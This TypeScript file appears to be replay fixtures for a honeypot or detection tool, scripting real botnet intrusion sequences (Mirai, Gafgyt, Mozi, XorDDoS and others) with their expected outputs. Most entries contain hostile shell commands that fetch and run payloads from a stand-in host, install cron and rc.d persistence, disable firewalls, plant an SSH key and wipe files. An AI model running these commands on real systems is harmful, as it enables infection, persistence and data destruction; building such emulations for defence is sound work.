import { hexPieces, progress, type Sequence, tinyElf } from './sequence.ts'

const host = '203.0.113.66'
const downloader = tinyElf('x86-64', 1)
const bot = tinyElf('x86-64', 2)

/** What Mirai's loader says before it knows where it is, and how it finds a folder that it may write to. */
const miraiPreamble = [
  'enable',
  'system',
  'shell',
  'sh',
  '/bin/busybox ECCHI',
  '/bin/busybox ps; /bin/busybox ECCHI',
  '/bin/busybox cat /proc/mounts; /bin/busybox ECCHI',
  ...['/', '/sys', '/proc', '/dev', '/run', '/dev/shm'].map(
    folder =>
      `/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69${folder}' > ${folder}/.nippon; /bin/busybox cat ${folder}/.nippon; /bin/busybox rm ${folder}/.nippon`,
  ),
  '/bin/busybox ECCHI',
  'rm /.t; rm /.sh; rm /.human',
  'cd /dev/shm/',
  '/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI',
  '/bin/busybox cat /bin/echo | /bin/busybox head -c 52 > /dev/null',
  '/bin/busybox ECCHI',
]
const miraiErrors = [
  /enable: not found|^bash: .*enable/,
  /^(bash|sh): (line )?\d*:? ?(system|shell): (command )?not found$/,
  /^BusyBox v1\.35\.0 .* multi-call binary\.$|^Usage: (wget|tftp)|^\t/,
  /ECCHI: applet not found/,
  /(\/sys|\/proc)\/\.nippon: (Permission denied|No such file or directory|Directory nonexistent)/,
  /cannot create \/(sys|proc)\/\.nippon/,
  /can't (open|remove) '\/(sys|proc)\/\.nippon': No such file or directory/,
  /rm: cannot remove '\/\.(t|sh|human)': No such file or directory/,
]

export const botnets: Sequence[] = [
  {
    name: 'Mirai, echo loader',
    how: 'shell',
    lines: [
      ...miraiPreamble,
      '/bin/busybox cp /bin/echo upnp; >upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI',
      ...hexPieces(downloader, 32).map(piece => `/bin/busybox echo -ne '${piece}' >> upnp; /bin/busybox ECCHI`),
      './upnp; ./dvrHelper telnet.x86; /bin/busybox IHCCE',
      'rm -rf upnp; > dvrHelper; /bin/busybox ECCHI',
    ],
    samples: [downloader],
    runs: ['/dev/shm/upnp'],
    output: [/kami\/\n/, /kami\/dev\/shm\n/],
    errors: [...miraiErrors, /IHCCE: applet not found/],
  },
  {
    name: 'Mirai, wget loader',
    how: 'shell',
    lines: [
      ...miraiPreamble,
      '/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI',
      `/bin/busybox wget http://${host}:80/bins/mirai.x86 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI`,
      './dvrHelper telnet.x86.wget; /bin/busybox IHCCE',
    ],
    urls: [`http://${host}:80/bins/mirai.x86`],
    runs: ['/dev/shm/dvrHelper'],
    errors: [...miraiErrors, /IHCCE: applet not found/, /^Connecting to|100%|^writing to stdout|^written to stdout/],
  },
  {
    name: 'Mirai, tftp loader',
    how: 'shell',
    lines: [
      ...miraiPreamble,
      `/bin/busybox tftp -g -l dvrHelper -r mirai.x86 ${host}; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI`,
      './dvrHelper telnet.x86.tftp; /bin/busybox IHCCE',
    ],
    urls: [`tftp://${host}/mirai.x86`],
    runs: ['/dev/shm/dvrHelper'],
    errors: [...miraiErrors, /IHCCE: applet not found/, /^dvrHelper +100%|^mirai\.x86 +100%/],
  },
  {
    name: 'Mirai over SSH exec: one line that tries everything',
    how: 'exec',
    lines: [
      `cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://${host}/wget.sh; curl -O http://${host}/curl.sh; chmod 777 wget.sh curl.sh; sh wget.sh; sh curl.sh; rm -rf wget.sh curl.sh; history -c`,
    ],
    urls: [`http://${host}/wget.sh`, `http://${host}/curl.sh`],
    runs: ['/tmp/wget.sh', '/tmp/curl.sh'],
    errors: progress,
  },
  {
    name: 'Gafgyt, bins.sh in every way there is',
    how: 'exec',
    lines: [
      [
        'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /',
        `wget http://${host}/bins.sh; chmod 777 bins.sh; sh bins.sh`,
        `tftp ${host} -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh`,
        `tftp -r tftp2.sh -g ${host}; chmod 777 tftp2.sh; sh tftp2.sh`,
        `ftpget -v -u anonymous -p anonymous -P 21 ${host} ftp1.sh ftp1.sh; sh ftp1.sh`,
        'rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *',
      ].join('; '),
    ],
    urls: [`http://${host}/bins.sh`],
    runs: ['/tmp/bins.sh'],
    errors: [
      ...progress,
      /(tftp|ftpget): command not found/,
      /(chmod: cannot access '|sh: 0: cannot open )(tftp|ftp)[12]\.sh('?: No such file)/,
    ],
  },
  {
    name: 'A worm that tries a binary for every architecture',
    how: 'exec',
    lines: [
      `cd /tmp; for a in mips mpsl x86 arm arm5 arm6 arm7 ppc m68k sh4 spc x86_64; do rm -f .b.$a; wget -q http://${host}/b/$a -O .b.$a || curl -s http://${host}/b/$a -o .b.$a; chmod +x .b.$a; ./.b.$a ssh; done; echo done`,
    ],
    urls: [`http://${host}/b/mips`, `http://${host}/b/x86`, `http://${host}/b/x86_64`],
    runs: ['/tmp/.b.x86', '/tmp/.b.x86_64', '/tmp/.b.mips'],
    output: [/^done$/m],
    errors: [/cannot execute binary file: Exec format error/],
  },
  {
    name: 'Mozi: looks at an ELF, closes the door behind it',
    how: 'shell',
    lines: [
      'sh',
      '/bin/busybox dd bs=52 count=1 if=/bin/ls || /bin/busybox cat /bin/ls || while read i; do echo $i; done < /bin/ls',
      `cd /tmp || cd /var/tmp; /bin/busybox wget http://${host}:51234/Mozi.m; chmod 777 Mozi.m; ./Mozi.m`,
      ...[22, 23, 2323, 7547].map(port => `iptables -I INPUT -p tcp --destination-port ${port} -j DROP`),
      'iptables -I OUTPUT -p tcp --source-port 58000 -j DROP',
      'killall -9 telnetd utelnetd scfgmgr',
    ],
    urls: [`http://${host}:51234/Mozi.m`],
    runs: ['/tmp/Mozi.m'],
    output: [/\x7fELF/],
    errors: [
      /^Connecting to |^saving to |^'?Mozi\.m|^Mozi\.m/,
      /records (in|out)|bytes .*copied/,
      /Exec format error/,
      /: no process found/,
    ],
  },
  {
    name: 'XorDDoS: a library, a cron job that brings it back, links in rc.d',
    how: 'exec',
    lines: [
      'ls -la /var/run/gcc.pid',
      `(wget -O /lib/libudev.so http://${host}:8080/rt || curl -o /lib/libudev.so http://${host}:8080/rt) > /dev/null 2>&1; chmod 755 /lib/libudev.so; cp /lib/libudev.so /usr/bin/qwkjrtyzas; /usr/bin/qwkjrtyzas`,
      "cat > /etc/cron.hourly/gcc.sh << 'EOT'\n#!/bin/sh\nPATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin:/usr/local/sbin:/usr/X11R6/bin\nfor i in `cat /proc/net/dev|grep :|awk -F: {'print $1'}`; do ifconfig $i up& done\ncp /lib/libudev.so /lib/libudev.so.6\n/lib/libudev.so.6\nEOT\nchmod +x /etc/cron.hourly/gcc.sh; sed -i '/\\/etc\\/cron.hourly\\/gcc.sh/d' /etc/crontab && echo '*/3 * * * * root /etc/cron.hourly/gcc.sh' >> /etc/crontab",
      'for i in 1 2 3 4 5; do ln -sf /etc/init.d/qwkjrtyzas /etc/rc$i.d/S90qwkjrtyzas; done; ls /etc/rc3.d | grep S90',
      'tail -1 /etc/crontab; /etc/cron.hourly/gcc.sh',
    ],
    urls: [`http://${host}:8080/rt`],
    runs: ['/usr/bin/qwkjrtyzas', '/etc/cron.hourly/gcc.sh'],
    output: [/S90qwkjrtyzas/, /\*\/3 \* \* \* \* root \/etc\/cron\.hourly\/gcc\.sh/],
    errors: [/cannot access '\/var\/run\/gcc\.pid': No such file or directory/],
  },
  {
    name: 'An SSH botnet that sends its program through standard input and runs it from memory',
    how: 'exec',
    lines: [
      'uname -a; id; cat /proc/cpuinfo | grep -c processor',
      `printf '${hexPieces(bot, 200)[0]}' > /dev/shm/nginx; chmod +x /dev/shm/nginx; nohup /dev/shm/nginx > /dev/null 2>&1 &`,
      'sleep 0; ps aux | grep -v grep | grep -c nginx; rm -f /dev/shm/nginx',
      'mkdir -p ~/.ssh; echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICfX2y5FNpUuecC8p+Ot0m+1N9WQfejBCD6uDRt/SlKj >> ~/.ssh/authorized_keys',
      'pidof xmrig; kill -9 $(pidof xmrig) 2>/dev/null; nc -h 2>&1 | head -1',
    ],
    samples: [bot],
    runs: ['/dev/shm/nginx'],
    accounts: [{ user: 'root', change: 'key' }],
    output: [/^Linux .*GNU\/Linux\nuid=0\(root\)/],
  },
  {
    name: 'A DDoS kit of the old school: firewall off, file in /tmp, nohup',
    how: 'exec',
    lines: [
      'service iptables stop; /etc/init.d/iptables stop; SuSEfirewall2 stop; reSuSEfirewall2 stop',
      `wget -c -O /tmp/Linux2.6 http://${host}:9162/Linux2.6`,
      'chmod 0755 /tmp/Linux2.6',
      'nohup /tmp/Linux2.6 > /dev/null 2>&1 &',
      "echo 'cd /tmp/; ./Linux2.6 &' >> /etc/rc.local; cat /etc/rc.local",
    ],
    urls: [`http://${host}:9162/Linux2.6`],
    runs: ['/tmp/Linux2.6'],
    output: [/\.\/Linux2\.6 &/],
    errors: [
      /iptables(\.service)?: unrecognized service|Unit iptables\.service not loaded|\/etc\/init\.d\/iptables: No such file/,
      /SuSEfirewall2: command not found/,
      ...progress,
    ],
  },
]
